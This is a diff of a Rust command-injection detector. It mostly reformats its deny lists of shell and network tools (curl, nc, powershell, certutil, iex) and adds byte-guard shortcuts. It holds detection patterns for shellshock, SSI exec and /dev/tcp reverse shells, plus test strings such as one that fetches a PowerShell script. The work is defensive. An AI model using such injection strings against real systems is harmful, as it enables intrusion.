@@ -12,46 +12,167 @@
 
 /// Commands that are telling at any command position, arguments or not.
 const STRONG: &[&[u8]] = &[
-    b"whoami", b"uname", b"wget", b"curl", b"nc", b"ncat", b"netcat", b"bash", b"sh",
-    b"zsh", b"ksh", b"dash", b"csh", b"tcsh", b"busybox", b"powershell", b"pwsh", b"cmd",
-    b"ifconfig", b"ipconfig", b"systeminfo", b"netstat", b"nslookup", b"tasklist",
-    b"taskkill", b"certutil", b"bitsadmin", b"wmic", b"net.exe", b"passwd", b"chmod",
-    b"chown", b"crontab", b"nohup", b"telnet", b"tftp", b"python", b"python2",
-    b"python3", b"perl", b"ruby", b"php", b"lua", b"node", b"id", b"pwd", b"ls", b"dir",
-    b"ps", b"env", b"printenv", b"hostname", b"rm", b"useradd", b"wsl", b"mshta",
-    b"rundll32", b"regsvr32", b"cscript", b"wscript", b"xterm", b"socat", b"base64",
-    b"xxd", b"lsb_release", b"getent", b"sudo", b"su", b"sleep", b"ping", b"timeout",
-    b"dig", b"traceroute", b"tracert", b"route", b"arp", b"uptime", b"w", b"last",
-    b"lastlog", b"ver", b"fsutil", b"schtasks", b"reg", b"sc", b"icacls", b"cacls",
-    b"nmap", b"ssh", b"scp", b"ftp", b"awk", b"gawk", b"sed", b"cut", b"xargs", b"exec",
-    b"eval", b"system", b"kill", b"killall", b"pkill", b"mkfifo", b"mknod", b"chattr",
-    b"dd", b"tar", b"zip", b"unzip", b"gzip", b"bzip2", b"openssl", b"java", b"jrunscript",
-    b"iwr", b"iex", b"irm", b"invoke-webrequest", b"invoke-expression", b"invoke-restmethod",
-    b"start-process", b"new-object", b"downloadstring", b"set-mppreference", b"netsh",
-    b"ansible-inventory", b"kubectl", b"docker", b"cscli", b"mysql", b"psql", b"sqlcmd",
+    b"whoami",
+    b"uname",
+    b"wget",
+    b"curl",
+    b"nc",
+    b"ncat",
+    b"netcat",
+    b"bash",
+    b"sh",
+    b"zsh",
+    b"ksh",
+    b"dash",
+    b"csh",
+    b"tcsh",
+    b"busybox",
+    b"powershell",
+    b"pwsh",
+    b"cmd",
+    b"ifconfig",
+    b"ipconfig",
+    b"systeminfo",
+    b"netstat",
+    b"nslookup",
+    b"tasklist",
+    b"taskkill",
+    b"certutil",
+    b"bitsadmin",
+    b"wmic",
+    b"net.exe",
+    b"passwd",
+    b"chmod",
+    b"chown",
+    b"crontab",
+    b"nohup",
+    b"telnet",
+    b"tftp",
+    b"python",
+    b"python2",
+    b"python3",
+    b"perl",
+    b"ruby",
+    b"php",
+    b"lua",
+    b"node",
+    b"id",
+    b"pwd",
+    b"ls",
+    b"dir",
+    b"ps",
+    b"env",
+    b"printenv",
+    b"hostname",
+    b"rm",
+    b"useradd",
+    b"wsl",
+    b"mshta",
+    b"rundll32",
+    b"regsvr32",
+    b"cscript",
+    b"wscript",
+    b"xterm",
+    b"socat",
+    b"base64",
+    b"xxd",
+    b"lsb_release",
+    b"getent",
+    b"sudo",
+    b"su",
+    b"sleep",
+    b"ping",
+    b"timeout",
+    b"dig",
+    b"traceroute",
+    b"tracert",
+    b"route",
+    b"arp",
+    b"uptime",
+    b"w",
+    b"last",
+    b"lastlog",
+    b"ver",
+    b"fsutil",
+    b"schtasks",
+    b"reg",
+    b"sc",
+    b"icacls",
+    b"cacls",
+    b"nmap",
+    b"ssh",
+    b"scp",
+    b"ftp",
+    b"awk",
+    b"gawk",
+    b"sed",
+    b"cut",
+    b"xargs",
+    b"exec",
+    b"eval",
+    b"system",
+    b"kill",
+    b"killall",
+    b"pkill",
+    b"mkfifo",
+    b"mknod",
+    b"chattr",
+    b"dd",
+    b"tar",
+    b"zip",
+    b"unzip",
+    b"gzip",
+    b"bzip2",
+    b"openssl",
+    b"java",
+    b"jrunscript",
+    b"iwr",
+    b"iex",
+    b"irm",
+    b"invoke-webrequest",
+    b"invoke-expression",
+    b"invoke-restmethod",
+    b"start-process",
+    b"new-object",
+    b"downloadstring",
+    b"set-mppreference",
+    b"netsh",
+    b"ansible-inventory",
+    b"kubectl",
+    b"docker",
+    b"cscli",
+    b"mysql",
+    b"psql",
+    b"sqlcmd",
 ];
 
 /// Commands that are also ordinary words: need an argument that looks like one.
 const WEAK: &[&[u8]] = &[
-    b"cat", b"echo", b"type", b"more", b"less", b"head", b"tail", b"find", b"grep",
-    b"sort", b"which", b"whereis", b"set", b"host", b"net", b"who", b"time", b"date",
-    b"cp", b"mv", b"touch", b"mkdir", b"printf", b"expr", b"file", b"strings", b"od",
-    b"uniq", b"wc", b"diff", b"test", b"read", b"export", b"start", b"call", b"copy",
-    b"del", b"tee", b"nl", b"rev", b"tac", b"ln", b"cd", b"source", b"print",
+    b"cat", b"echo", b"type", b"more", b"less", b"head", b"tail", b"find", b"grep", b"sort",
+    b"which", b"whereis", b"set", b"host", b"net", b"who", b"time", b"date", b"cp", b"mv",
+    b"touch", b"mkdir", b"printf", b"expr", b"file", b"strings", b"od", b"uniq", b"wc", b"diff",
+    b"test", b"read", b"export", b"start", b"call", b"copy", b"del", b"tee", b"nl", b"rev", b"tac",
+    b"ln", b"cd", b"source", b"print",
 ];
 
 /// Judges decoded, case-folded text; returns (reason, offset) for command injection.
 pub fn detect(t: &[u8]) -> Option<(&'static str, usize)> {
-    if let Some(p) = memchr::memmem::find(t, b"() {") {
+    // Byte guards first: most values reaching here hold none of `{ < ( %`.
+    let has = |b: u8| memchr::memchr(b, t).is_some();
+    let (brace, angle, paren, pct) = (has(b'{'), has(b'<'), has(b'('), has(b'%'));
+    if let Some(p) = brace.then(|| memchr::memmem::find(t, b"() {")).flatten() {
         return Some(("shellshock function definition", p));
     }
-    if let Some(p) = memchr::memmem::find(t, b"<!--#exec") {
+    if let Some(p) = angle
+        .then(|| memchr::memmem::find(t, b"<!--#exec"))
+        .flatten()
+    {
         return Some(("SSI exec directive", p));
     }
-    if let Some(r) = php_exec(t) {
+    if let Some(r) = paren.then(|| php_exec(t)).flatten() {
         return Some(r);
     }
-    if let Some(p) = batch_control(t) {
+    if let Some(p) = (paren || pct).then(|| batch_control(t)).flatten() {
         return Some(("Windows batch for/if construct", p));
     }
     let s = deobfuscate(t);
@@ -63,7 +184,10 @@ pub fn detect(t: &[u8]) -> Option<(&'static str, usize)> {
             return Some((reason, pos.min(t.len())));
         }
     }
-    if let Some(p) = memchr::memmem::find(&s, b"/dev/tcp/") {
+    if let Some(p) = has(b'/')
+        .then(|| memchr::memmem::find(&s, b"/dev/tcp/"))
+        .flatten()
+    {
         return Some(("/dev/tcp reverse shell", p.min(t.len())));
     }
     None
@@ -71,7 +195,14 @@ pub fn detect(t: &[u8]) -> Option<(&'static str, usize)> {
 
 /// `system('…')`, `passthru(`, `shell_exec(`, `popen(`, `proc_open(` with an argument.
 fn php_exec(t: &[u8]) -> Option<(&'static str, usize)> {
-    let calls = [&b"system("[..], b"passthru(", b"shell_exec(", b"popen(", b"proc_open(", b"pcntl_exec("];
+    let calls = [
+        &b"system("[..],
+        b"passthru(",
+        b"shell_exec(",
+        b"popen(",
+        b"proc_open(",
+        b"pcntl_exec(",
+    ];
     for name in calls {
         if let Some(p) = memchr::memmem::find(t, name) {
             let arg = t.get(p + name.len()).copied();
@@ -83,7 +214,9 @@ fn php_exec(t: &[u8]) -> Option<(&'static str, usize)> {
     }
     // `exec('whoami')`, `eval('ls')`: generic names, so the string must hold a command.
     for name in [&b"exec("[..], b"eval(", b"execute("] {
-        let Some(p) = memchr::memmem::find(t, name) else { continue };
+        let Some(p) = memchr::memmem::find(t, name) else {
+            continue;
+        };
         let inner = &t[p + name.len()..];
         if matches!(inner.first(), Some(b'\'' | b'"' | b'`')) {
             let s = deobfuscate(&inner[1..]);
@@ -102,14 +235,23 @@ fn batch_control(t: &[u8]) -> Option<usize> {
         let at = from + off;
         from = at + 4;
         let window = &t[at..(at + 240).min(t.len())];
-        let has_in = memchr::memmem::find(window, b" in (").or_else(|| memchr::memmem::find(window, b" in("));
+        let has_in = memchr::memmem::find(window, b" in (")
+            .or_else(|| memchr::memmem::find(window, b" in("));
         let Some(i) = has_in else { continue };
         let tail = &window[i..];
-        if memchr::memmem::find(tail, b") do").is_some() || memchr::memmem::find(tail, b")do").is_some() {
+        if memchr::memmem::find(tail, b") do").is_some()
+            || memchr::memmem::find(tail, b")do").is_some()
+        {
             return Some(at);
         }
     }
-    for cond in [&b"if exist "[..], b"if defined ", b"if errorlevel ", b"%errorlevel%", b"if not exist "] {
+    for cond in [
+        &b"if exist "[..],
+        b"if defined ",
+        b"if errorlevel ",
+        b"%errorlevel%",
+        b"if not exist ",
+    ] {
         if let Some(p) = memchr::memmem::find(t, cond) {
             return Some(p);
         }
@@ -120,7 +262,9 @@ fn batch_control(t: &[u8]) -> Option<usize> {
 /// A caret or backslash between letters, or a word holding two or more quotes
 /// (`wh'o'ami`, `ti''me`, `c^md`); a lone apostrophe (`don't`) is prose.
 fn in_word_obfuscation(t: &[u8]) -> bool {
-    for word in t.split(|b| !(b.is_ascii_alphanumeric() || matches!(b, b'\'' | b'"' | b'^' | b'\\'))) {
+    for word in
+        t.split(|b| !(b.is_ascii_alphanumeric() || matches!(b, b'\'' | b'"' | b'^' | b'\\')))
+    {
         let letters = word.iter().filter(|b| b.is_ascii_alphabetic()).count();
         if letters < 2 {
             continue;
@@ -129,7 +273,11 @@ fn in_word_obfuscation(t: &[u8]) -> bool {
         let inner = word.windows(3).any(|w| {
             w[0].is_ascii_alphabetic() && matches!(w[1], b'^' | b'\\') && w[2].is_ascii_alphabetic()
         });
-        if quotes >= 2 && word.iter().rposition(|b| b.is_ascii_alphabetic()) > word.iter().position(|b| matches!(b, b'\'' | b'"')) || inner {
+        if quotes >= 2
+            && word.iter().rposition(|b| b.is_ascii_alphabetic())
+                > word.iter().position(|b| matches!(b, b'\'' | b'"'))
+            || inner
+        {
             return true;
         }
     }
@@ -221,7 +369,10 @@ fn command_at(s: &[u8], pos: usize, after_sep: bool) -> Option<&'static str> {
     }
     let len = s[k..]
         .iter()
-        .take_while(|b| b.is_ascii_alphanumeric() || matches!(b, b'/' | b'.' | b'_' | b'-' | b'?' | b'*' | b'[' | b']'))
+        .take_while(|b| {
+            b.is_ascii_alphanumeric()
+                || matches!(b, b'/' | b'.' | b'_' | b'-' | b'?' | b'*' | b'[' | b']')
+        })
         .count();
     let word = &s[k..k + len];
     if word.is_empty() || len > 64 {
@@ -231,7 +382,10 @@ fn command_at(s: &[u8], pos: usize, after_sep: bool) -> Option<&'static str> {
     let base = word.rsplit(|b| *b == b'/').next().unwrap_or(word);
     let base = base.strip_suffix(b".exe").unwrap_or(base);
     let end = s.get(k + len).copied();
-    if !matches!(end, None | Some(b' ' | b';' | b'|' | b'&' | b'`' | b')' | b'<' | b'>' | b'\n' | b'$')) {
+    if !matches!(
+        end,
+        None | Some(b' ' | b';' | b'|' | b'&' | b'`' | b')' | b'<' | b'>' | b'\n' | b'$')
+    ) {
         return None;
     }
     let args = arg_like(&s[k + len..]) || windows_net(base, &s[k + len..]);
@@ -256,8 +410,17 @@ fn command_at(s: &[u8], pos: usize, after_sep: bool) -> Option<&'static str> {
 
 /// `net user …`, `net localgroup …`: Windows account and share commands.
 fn windows_net(base: &[u8], rest: &[u8]) -> bool {
-    const SUB: [&[u8]; 9] =
-        [b" user", b" localgroup", b" view", b" share", b" use ", b" group", b" accounts", b" session", b" start"];
+    const SUB: [&[u8]; 9] = [
+        b" user",
+        b" localgroup",
+        b" view",
+        b" share",
+        b" use ",
+        b" group",
+        b" accounts",
+        b" session",
+        b" start",
+    ];
     base == b"net" && SUB.iter().any(|s| rest.starts_with(s))
 }
 
@@ -322,7 +485,10 @@ mod tests {
             "for /f %a in ('dir /b') do echo %a",
             "x;iwr http://x/a.ps1",
         ] {
-            assert!(detect(s.as_bytes()).is_some(), "{s} should be command injection");
+            assert!(
+                detect(s.as_bytes()).is_some(),
+                "{s} should be command injection"
+            );
         }
     }
 
@@ -340,7 +506,10 @@ mod tests {
             "o'keefe's cafe",
             "for the win in (a way) do it",
         ] {
-            assert!(detect(s.as_bytes()).is_none(), "{s} should not be command injection");
+            assert!(
+                detect(s.as_bytes()).is_none(),
+                "{s} should not be command injection"
+            );
         }
     }
 }
